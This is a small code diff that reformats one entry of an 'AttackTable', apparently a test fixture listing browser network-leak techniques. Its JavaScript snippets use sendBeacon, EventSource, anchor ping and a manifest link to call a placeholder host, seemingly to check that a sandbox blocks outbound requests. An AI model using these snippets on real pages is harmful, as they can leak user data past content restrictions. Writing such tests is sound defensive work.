@@ -35,7 +35,8 @@ enum AttackTable {
     Attack(name: "beacon", script: "navigator.sendBeacon('http://TCP/b', 'x')"),
     Attack(name: "events", script: "new EventSource('http://TCP/')"),
     Attack(
-      name: "ping", script: "const a = document.createElement('a'); a.href = '#'; a.ping = "
+      name: "ping",
+      script: "const a = document.createElement('a'); a.href = '#'; a.ping = "
         + "'http://TCP/'; document.body.append(a); a.click()"
     ),
     Attack(name: "manifest", script: "", head: "<link rel=manifest href='http://TCP/m.json'>"),
